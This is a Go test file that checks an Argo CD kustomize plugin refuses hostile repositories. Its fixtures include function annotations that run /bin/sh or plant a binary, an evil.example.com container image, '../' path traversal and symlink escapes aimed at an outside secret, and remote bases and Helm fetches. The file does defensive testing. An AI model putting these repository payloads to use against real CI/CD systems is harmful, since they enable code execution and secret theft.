package argocd

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"google.golang.org/grpc/status"
)

// secret is what a hostile repository must not get out of the sidecar.
const secret = "krm-fn-attack-secret-5f3a"

// attack is a repository built to make the plugin read, write, fetch or
// run something, and what the plugin must say instead.
type attack struct {
	name  string
	files map[string]string // relative to the repository; "@link:" + target makes a symbolic link
	want  string            // the error must contain it
	// or, where Argo CD itself refuses the repository before the plugin
	// sees it, this
	argo string
}

// TestPluginResistsHostileRepositories streams repositories that try each
// known way out through argocd-cmp-server with the project's plugin.yaml.
// Each must fail with a message naming the file and what it asked for,
// and afterwards nothing outside the repository was read (the secret is
// in no answer), written (the outside directory is unchanged), fetched
// (the loopback server saw no request) or run (no program left its
// mark). The example's own overlay still renders (TestPluginRendersOverlay).
func TestPluginResistsHostileRepositories(t *testing.T) {
	s := startServer(t)
	outside := t.TempDir() // the sidecar's files that are not the repository's
	writeFile(t, filepath.Join(outside, "secret.yaml"), "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: secret, namespace: prd-api}\ndata: {token: "+secret+"}\n")
	writeFile(t, filepath.Join(outside, "kustomization.yaml"), "resources: [secret.yaml]\n")
	mark := filepath.Join(outside, "ran")
	var fetched atomic.Int64
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fetched.Add(1)
		fmt.Fprint(w, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: fetched}\n")
	}))
	defer web.Close()
	escape := strings.Repeat("../", 40) + strings.TrimPrefix(outside, "/")

	transformer := func(annotation string) string {
		return "apiVersion: evil.example.com/v1\nkind: Reader\nmetadata:\n  name: evil\n  annotations:\n    config.kubernetes.io/function: |\n" +
			indent(annotation, "      ")
	}
	overlay := func(extra string) string {
		return "resources:\n- ../../bases\n" + extra + "transformers:\n- platform.yaml\n"
	}
	for _, a := range []attack{{
		name: "exec kustomize",
		files: map[string]string{
			"overlays/prd/evil.yaml":          transformer("exec:\n  path: kustomize\n  args: [build, " + outside + "]\n"),
			"overlays/prd/kustomization.yaml": "resources:\n- ../../bases\ntransformers:\n- evil.yaml\n- platform.yaml\n",
		},
		want: `overlays/prd/evil.yaml: Reader evil: the annotation config.kubernetes.io/function asks to run the program "kustomize"`,
	}, {
		name: "exec a shell with a committed script",
		files: map[string]string{
			"overlays/prd/evil.sh":            "#!/bin/sh\ntouch " + mark + "\n",
			"overlays/prd/evil.yaml":          transformer("exec:\n  path: /bin/sh\n  args: [evil.sh]\n"),
			"overlays/prd/kustomization.yaml": "resources:\n- ../../bases\ntransformers:\n- evil.yaml\n- platform.yaml\n",
		},
		want: `asks to run the program "/bin/sh"`,
	}, {
		name: "exec krm-fn install, planting a binary",
		files: map[string]string{
			"overlays/prd/evil.yaml":          transformer("exec:\n  path: krm-fn\n  args: [install, " + outside + "/planted]\n"),
			"overlays/prd/kustomization.yaml": "resources:\n- ../../bases\ntransformers:\n- evil.yaml\n- platform.yaml\n",
		},
		want: `asks to run the program "krm-fn"`,
	}, {
		name: "a container function",
		files: map[string]string{
			"overlays/prd/evil.yaml":          transformer("container:\n  image: evil.example.com/reader\n  network: true\n"),
			"overlays/prd/kustomization.yaml": "resources:\n- ../../bases\ntransformers:\n- evil.yaml\n- platform.yaml\n",
		},
		want: `asks to run the container image "evil.example.com/reader"`,
	}, {
		name: "a relative path out of the repository",
		files: map[string]string{
			"overlays/prd/kustomization.yaml": overlay("- " + escape + "/secret.yaml\n"),
		},
		want: "is outside the repository",
	}, {
		name: "a relative base out of the repository",
		files: map[string]string{
			"overlays/prd/kustomization.yaml": overlay("- " + escape + "\n"),
		},
		want: "is outside the repository",
	}, {
		name: "a patch file out of the repository",
		files: map[string]string{
			"overlays/prd/kustomization.yaml": overlay("patches:\n- path: " + escape + "/secret.yaml\n"),
		},
		want: "is outside the repository",
	}, {
		name: "a symbolic link out of the repository",
		files: map[string]string{
			"bases/leak":                      "@link:" + strings.Repeat("../", 40) + strings.TrimPrefix(outside, "/"),
			"overlays/prd/kustomization.yaml": overlay("- ../../bases/leak\n"),
		},
		want: "outside the repository",
		argo: "illegal filepath in symlink", // argocd-cmp-server refuses to unpack it
	}, {
		name: "a remote resource",
		files: map[string]string{
			"overlays/prd/kustomization.yaml": overlay("- " + web.URL + "/evil.yaml\n"),
		},
		want: `"` + web.URL + `/evil.yaml" is remote`,
	}, {
		name: "a remote base",
		files: map[string]string{
			"overlays/prd/kustomization.yaml": overlay("- github.com/evil/repo//base?ref=main\n"),
		},
		want: `"github.com/evil/repo//base?ref=main" is remote`,
	}, {
		name: "helm",
		files: map[string]string{
			"overlays/prd/kustomization.yaml": overlay("helmCharts:\n- name: evil\n  repo: " + web.URL + "\n  version: 1.0.0\n"),
		},
		want: "helmCharts needs Helm, which this build does not run",
	}, {
		name: "krm-fn's own kind naming another program and arguments",
		files: map[string]string{
			// Not the last transformer: kustomize runs krm-fn here, and it
			// must be the plugin's own, with no arguments.
			"overlays/prd/platform.yaml":      strings.Replace(readRepoFile(t, "overlays/prd/platform.yaml"), "path: krm-fn", "path: /bin/sh\n        args: [-c, 'touch "+mark+"']", 1),
			"overlays/prd/labels.yaml":        "apiVersion: builtin\nkind: LabelTransformer\nmetadata: {name: tier}\nlabels: {tier: edge}\nfieldSpecs: [{path: metadata/labels, create: true}]\n",
			"overlays/prd/kustomization.yaml": "resources:\n- ../../bases\ntransformers:\n- platform.yaml\n- labels.yaml\n",
		},
		want: "", // renders, with the plugin's own krm-fn
	}} {
		t.Run(a.name, func(t *testing.T) {
			repo := example(t)
			for path, content := range a.files {
				p := filepath.Join(repo, path)
				if target, ok := strings.CutPrefix(content, "@link:"); ok {
					if err := os.Symlink(target, p); err != nil {
						t.Fatal(err)
					}
					continue
				}
				if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
					t.Fatal(err)
				}
				writeFile(t, p, content)
			}
			manifests, err := generate(t, repo, filepath.Join(repo, "overlays", "prd"), "krm-fn", repoServerEnv("overlays/prd"))
			msg := ""
			if err != nil {
				msg = status.Convert(err).Message()
			}
			switch {
			case a.want == "" && err != nil:
				t.Fatalf("want the overlay rendered, got: %s", msg)
			case a.want != "" && err == nil:
				t.Fatalf("the plugin rendered %d manifests, want an error containing %q", len(manifests), a.want)
			case a.want != "" && !strings.Contains(msg, a.want) && (a.argo == "" || !strings.Contains(s.log.String(), a.argo)):
				t.Errorf("the error lacks %q:\n%s", a.want, msg)
			}
			if a.want != "" && len(manifests) > 0 {
				t.Errorf("an error came with %d manifests", len(manifests))
			}
			if strings.Contains(msg+strings.Join(manifests, "\n"), secret) {
				t.Errorf("the secret outside the repository reached the answer:\n%s%s", msg, strings.Join(manifests, "\n"))
			}
			if n := fetched.Load(); n > 0 {
				t.Errorf("the plugin fetched %d times from the loopback server", n)
			}
			if entries, _ := os.ReadDir(outside); len(entries) != 2 {
				var names []string
				for _, e := range entries {
					names = append(names, e.Name())
				}
				t.Errorf("the directory outside the repository changed: %v (a program ran, or a file was written)", names)
			}
		})
	}
}

// TestPluginDiscoveryEndsOnLinkLoops: a tree whose directories link back
// to themselves (a -> ., b -> .), which a naive walk follows forever
// (2^depth paths), is walked once; the plugin claims it only if it holds
// a krm-fn function config.
func TestPluginDiscoveryEndsOnLinkLoops(t *testing.T) {
	startServer(t)
	for _, tc := range []struct {
		name    string
		claimed bool
	}{{"with a platform", true}, {"without one", false}} {
		t.Run(tc.name, func(t *testing.T) {
			repo := example(t)
			app := filepath.Join(repo, "loop")
			if err := os.MkdirAll(app, 0o755); err != nil {
				t.Fatal(err)
			}
			for _, l := range []string{"a", "b"} {
				if err := os.Symlink(".", filepath.Join(app, l)); err != nil {
					t.Fatal(err)
				}
			}
			k := "resources:\n- a\n- b\n- ../bases\n"
			if tc.claimed {
				copyFile(t, filepath.Join(repo, "overlays", "prd", "platform.yaml"), filepath.Join(app, "platform.yaml"), 0o644)
				k += "transformers:\n- platform.yaml\n"
			}
			writeFile(t, filepath.Join(app, "kustomization.yaml"), k)
			start := time.Now()
			_, err := generate(t, repo, app, "", repoServerEnv("loop"))
			if d := time.Since(start); d > 20*time.Second {
				t.Errorf("discovery and generation took %s", d)
			}
			notClaimed := err != nil && strings.Contains(err.Error(), "could not find plugin supporting the given repository")
			if notClaimed == tc.claimed {
				t.Errorf("claimed %v, want %v (err %v)", !notClaimed, tc.claimed, err)
			}
		})
	}
}

func indent(s, prefix string) string {
	lines := strings.Split(strings.TrimSuffix(s, "\n"), "\n")
	return prefix + strings.Join(lines, "\n"+prefix) + "\n"
}

func readRepoFile(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(root, path))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
